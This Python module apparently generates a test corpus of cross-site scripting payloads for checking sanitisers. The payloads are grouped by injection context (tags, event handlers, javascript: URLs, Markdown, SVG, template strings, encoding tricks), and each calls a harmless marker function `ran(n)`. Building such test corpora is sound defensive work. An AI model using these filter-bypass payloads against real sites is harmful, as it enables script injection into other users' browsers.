"""Texts that try to become script, by the place that they try to break out of. Each one calls `ran` with its own number."""

from __future__ import annotations

HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter", "onbegin",
    "onbeforetoggle",
)  # fmt: skip

# `@` stands for the call.
TAGS = (
    "<script>@</script>",
    "<ScRiPt>@</sCrIpT>",
    "<script >@</script >",
    "<script/x>@</script>",
    "<script\n>@</script\n>",
    "<script\t>@</script>",
    "<script type=module>@</script>",
    "<script nonce=x>@</script>",
    "<script src='data:text/javascript,@'></script>",
    "<script src=//127.0.0.1:9/@></script>",
    "<<script>@//<</script>",
    "<scr<script>ipt>@</scr</script>ipt>",
    "</script><script>@</script>",
    "</style><script>@</script>",
    "</title><script>@</script>",
    "</textarea><script>@</script>",
    "</noscript><script>@</script>",
    "</template><script>@</script>",
    "</option></select><script>@</script>",
    "</pre></code><script>@</script>",
    "</dialog></div><script>@</script>",
    "--><script>@</script>",
    "]]><script>@</script>",
    "<![CDATA[<script>@</script>]]>",
    "<!--<script>--><script>@</script>",
    "<?xml version='1.0'?><script>@</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@</x:script>",
)
ELEMENTS = (
    "<img src=x {}=@>",
    "<img src=x {}='@'>",
    "<svg {}=@>",
    "<svg/{}=@>",
    "<body {}=@>",
    "<input autofocus {}=@>",
    "<details open {}=@>",
)
ATTRIBUTES = (
    '" {}="@" x="',
    "' {}='@' x='",
    '"{}=@ ',
    "` {}=`@` x=`",
)
ADDRESSES = (
    "javascript:@",
    "JaVaScRiPt:@",
    "java\tscript:@",
    " javascript:@",
    "javascript://%0a@",
    "javascript&colon;@",
    "&#106;avascript:@",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "vbscript:@",
    "<a href='javascript:@'>here</a>",
    '<a href="data:text/html,<script>@</script>">here</a>',
    "<iframe src='javascript:@'></iframe>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<object data='javascript:@'></object>",
    "<embed src='javascript:@'>",
    "<form action='javascript:@'><button>go</button></form>",
    "<button formaction='javascript:@'>go</button>",
    "<base href='javascript:@//'>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<link rel=stylesheet href='data:text/css,*{}'>",
    "<style>@import 'javascript:@';</style>",
    "<math href='javascript:@'>here</math>",
)
MARKDOWN = (
    "[here](javascript:@)",
    "[here](JAVASCRIPT:@)",
    "[here](java&#10;script:@)",
    "[here](<javascript:@>)",
    "[here](data:text/html,<script>@</script>)",
    '![x](x"onerror="@)',
    "![x](javascript:@)",
    '![x" onerror="@](x)',
    '[x](https://example.org "a" onmouseover="@")',
    "[x]: javascript:@\n\n[x]",
    "<javascript:@>",
    "```\n</code></pre><script>@</script>\n```",
    "`</code><script>@</script>`",
    "# <img src=x onerror=@>",
    "| a |\n|---|\n| <svg onload=@> |",
    "*<script>@</script>*",
    "<details ontoggle=@ open>**x**</details>",
    "&lt;script&gt;@&lt;/script&gt;",
    'https://example.org/"onmouseover="@',
)
DRAWINGS = (
    "<svg><script>@</script></svg>",
    "<svg><script href='data:text/javascript,@'/></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s></svg>",
    "<svg><set onbegin=@ attributeName=x></svg>",
    "<svg><a xlink:href='javascript:@'><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=@ />#x'/></svg>",
    "<svg><style><img src=x onerror=@></style></svg>",
    "<svg><title><img src=x onerror=@></title></svg>",
    "<svg><desc></desc><image href=x onerror=@ /></svg>",
    "</text></svg><img src=x onerror=@>",
    "<math><mtext><table><mglyph><style><img src=x onerror=@>",
)
SCRIPTS = (
    "';@;'",
    '";@;"',
    "`;@;`",
    "${@}",
    "\\';@;//",
    '\\";@;//',
    "*/@/*",
    "\u2028@\u2028",
    '"}</script><script>@</script>',
    '{"__proto__":{"innerHTML":"<img src=x onerror=@>"}}',
    "__proto__<img src=x onerror=@>",
    "constructor.constructor('@')()",
    "{{constructor.constructor('@')()}}",
    "{%% raw %%}<script>@</script>",
    "#{@}",
    "<%= @ %>",
)
CODINGS = (
    "%3Cscript%3E@%3C/script%3E",
    "&#60;img src=x onerror=@&#62;",
    "\\u003cimg src=x onerror=@\\u003e",
    "\\x3cimg src=x onerror=@\\x3e",
    "\uff1cscript\uff1e@\uff1c/script\uff1e",
    "<img src=x\u00a0onerror=@>",
    "<img/src=x\u000conerror=@>",
    "\u202e<script>@</script>",
    "\ufeff<script>@</script>",
    "\x1b[31m<img src=x onerror=@>\x1b[0m",
    "\x1b]8;;javascript:@\x07here\x1b]8;;\x07",
    "+ADw-script+AD4-@+ADw-/script+AD4-",
)


def list_payloads() -> list[str]:
    """Return all texts, each with the number of its place in the list: `ran(7)` belongs to the eighth."""
    attributed = [form.format(handler) for form in (*ELEMENTS, *ATTRIBUTES) for handler in HANDLERS]
    forms = (*TAGS, *attributed, *ADDRESSES, *MARKDOWN, *DRAWINGS, *SCRIPTS, *CODINGS)
    return [form.replace("@", f"ran({number})") for number, form in enumerate(forms)]


def group_payloads(size: int) -> list[str]:
    """Return the texts in blocks of so many, for fields of which there is one to a page."""
    texts = list_payloads()
    return ["\n\n".join(texts[start : start + size]) for start in range(0, len(texts), size)]
